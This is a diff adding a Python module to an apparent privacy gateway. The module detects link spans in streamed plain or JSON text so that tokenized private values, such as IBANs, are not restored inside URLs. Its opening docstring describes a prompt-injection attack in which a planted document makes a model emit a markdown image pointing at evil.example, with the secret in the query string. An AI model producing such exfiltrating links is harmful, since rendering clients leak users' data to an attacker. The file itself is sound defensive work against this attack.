@@ -1,0 +1,144 @@
+"""Where a value must not be put back: inside links.
+
+A document that was planted can ask the model for `![x](https://evil.example/?q=IBAN_...)`; a client that shows the
+picture would hand over the value. So tokens inside a link stay tokens. A link that the user wrote himself, with an
+identifier in it, is replaced as a whole by one `URL` token, which may come back: nobody but him chose where it leads.
+
+A link begins at a scheme, `//`, `www.`, two backslashes or a markdown target `](`. It ends at white space, `<`, `>`
+or `"`; one that stands in quotes or angle brackets ends with them, because browsers accept spaces there. This is read
+wider than any one renderer does, on purpose.
+
+`LinkContext` is fed text in any pieces and gives the same answers; `replace` and `restore` share it, so that what one
+puts in, the other can take out.
+"""
+
+from __future__ import annotations
+
+import re
+
+from sovctl.gateway.kinds import Kind, Mark
+
+_OPENER = re.compile(r"""(["'<])?(?:https?:|ftps?:|wss?:|file:|data:|javascript:|//|\\\\|www\.)|\]\(""", re.IGNORECASE)
+_LONGEST_OPENER = 12  # characters: a quote and `javascript:`
+_TARGET = "]("
+_END = re.compile(r"""[\s<>"]""")
+_QUOTED_END = {'"': re.compile('"'), "'": re.compile("'"), "<": re.compile(">")}
+
+
+class LinkContext:
+    """Tells whether the text so far ends inside a link."""
+
+    def __init__(self) -> None:
+        self._end: re.Pattern[str] | None = None  # what closes the link we are in; None outside of links
+        self._is_bare_target = False  # right behind `](`
+        self._tail = ""  # the last few characters outside of links: an opener may come in two pieces
+        self._at = 0
+        self._opened_at = 0
+        self.regions: list[tuple[int, int]] = []
+        """Links so far, as spans of all text that was fed; an open one is missing until `close`."""
+
+    def feed(self, text: str) -> None:
+        """Take in plain text."""
+        position = 0
+        while position < len(text):
+            position = self._enter(text, position) if self._end is None else self._leave(text, position)
+
+    def close(self) -> None:
+        """End of the text: an open link ends here."""
+        if self._end is not None:
+            self.regions.append((self._opened_at, self._at))
+            self._end = None
+
+    def may_restore(self, label: Kind | Mark) -> bool:
+        """True when a token of `label` may be restored at this point."""
+        return self._end is None or (label is Mark.URL and self._is_bare_target)
+
+    def restored(self, label: Kind | Mark) -> None:
+        """A value was put in the place of a token; it is not part of what is fed."""
+        if label is Mark.URL and self._end is None:
+            self._end = _QUOTED_END.get(self._tail[-1:], _END)  # what follows a link belongs to it
+        self._tail = ""
+        self._is_bare_target = False
+
+    def _enter(self, text: str, position: int) -> int:
+        """Read on until a link begins; the position behind what was read."""
+        tail = self._tail
+        match = _OPENER.search(tail + text[position : position + _LONGEST_OPENER]) if tail else None
+        if match is not None and match.start() < len(tail):
+            start, end = position + match.start() - len(tail), position + match.end() - len(tail)
+        elif (match := _OPENER.search(text, position)) is not None:
+            start, end = match.span()
+        else:
+            self._tail = (tail + text[position:])[-_LONGEST_OPENER:]
+            self._at += len(text) - position
+            return len(text)
+        self._is_bare_target = match.group() == _TARGET
+        self._end = _QUOTED_END.get(match.group(1) or "", _END)
+        skipped = len(_TARGET) if self._is_bare_target else len(match.group(1) or "")
+        self._opened_at = self._at + start - position + skipped
+        self._at += end - position
+        self._tail = ""
+        return end
+
+    def _leave(self, text: str, position: int) -> int:
+        """Read on until the link ends; the position behind what was read."""
+        assert self._end is not None
+        self._is_bare_target = False
+        match = self._end.search(text, position)
+        if match is None:
+            self._at += len(text) - position
+            return len(text)
+        self.regions.append((self._opened_at, self._at + match.start() - position))
+        # The character that ends a bare link may open the next one's quotes; a closing quote does not.
+        self._tail = match.group() if self._end is _END else ""
+        self._end = None
+        self._at += match.end() - position
+        return match.end()
+
+
+class JsonLinkContext(LinkContext):
+    """The same for the text of a JSON document: escapes are undone, and every string stands for itself."""
+
+    _PIECE = re.compile(r'\\u[0-9a-fA-F]{4}|\\[^u]|"|[^"\\]+', re.DOTALL)
+    _ESCAPES = {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f"}  # noqa: RUF012 - a constant table
+
+    def __init__(self) -> None:
+        super().__init__()
+        self._partial = ""
+
+    def feed(self, text: str) -> None:
+        """Take in raw JSON text."""
+        text = self._partial + text
+        position = 0
+        while position < len(text):
+            match = self._PIECE.match(text, position)
+            if match is None:  # half an escape, or none at all
+                break
+            piece = match.group()
+            if piece == '"':
+                self._reset()
+            elif piece[0] == "\\":
+                super().feed(chr(int(piece[2:], 16)) if piece[1] == "u" else self._ESCAPES.get(piece[1], piece[1]))
+            else:
+                super().feed(piece)
+            position = match.end()
+        self._partial = text[position:]
+        if len(self._partial) >= 6:  # no escape is longer: this is not JSON, and read as it is
+            super().feed(self._partial)
+            self._partial = ""
+
+    def restored(self, label: Kind | Mark) -> None:
+        """As above; half an escape in front of a token is none."""
+        self._partial = ""
+        super().restored(label)
+
+    def _reset(self) -> None:
+        self._end, self._is_bare_target, self._tail = None, False, ""
+
+
+def link_regions(text: str) -> list[tuple[int, int]]:
+    """Spans of the links in `text`, in order."""
+    context = LinkContext()
+    context.feed(text)
+    context.close()
+    return context.regions
